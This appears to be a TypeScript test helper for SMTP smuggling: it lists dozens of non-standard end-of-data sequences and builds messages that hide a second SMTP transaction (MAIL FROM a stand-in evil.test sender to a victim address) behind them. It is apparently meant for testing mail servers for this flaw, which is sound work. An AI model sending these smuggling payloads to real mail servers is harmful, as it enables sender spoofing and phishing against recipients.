/** Between the end of a line and a command: what some server takes for the end of a message. */
export const pretendedEnds = [
  '\n.\n',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r',
  '\r.\r\n',
  '\r\n.\r',
  '\r.\n',
  '\n.\r',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\r\n\0.\0\r\n',
  '\0\n.\n',
  '\r\r\n.\r\n',
  '\r\n.\r\r\n',
  '\r\r\n.\r\r\n',
  '\r\r.\r\r',
  '\n\n.\n\n',
  '\n\r.\n\r',
  '\r\n.\n\r\n',
  '\r\n.\r.\r\n',
  '\n.\n.\r\n',
  // These are text, whatever they look like; they arrive as they were sent.
  '\r\n..\r\n',
  '\r\n...\r\n',
  '\r\n. \r\n',
  '\r\n .\r\n',
  '\r\n.\t\r\n',
  '\r\n.=\r\n',
  '\v.\v',
  '\f.\f',
  '\x85.\x85',
  '\r\n.\x85',
  '\xe2\x80\xa8.\xe2\x80\xa8',
] as const;

const inner =
  'MAIL FROM:<smuggled@evil.test>\r\nRCPT TO:<victim@postfix.test>\r\nDATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n';

/** A message with another behind a pretended end, up to its own end. A character is an octet. */
export function smugglingMessage(sequence: string, index: number): string {
  const header = `Subject: outer ${index}\r\nFrom: <outer@relay.test>\r\nDate: x\r\nMessage-ID: <${index}@relay.test>`;
  return `${header}\r\n\r\nouter ${index}${sequence}${inner}`;
}
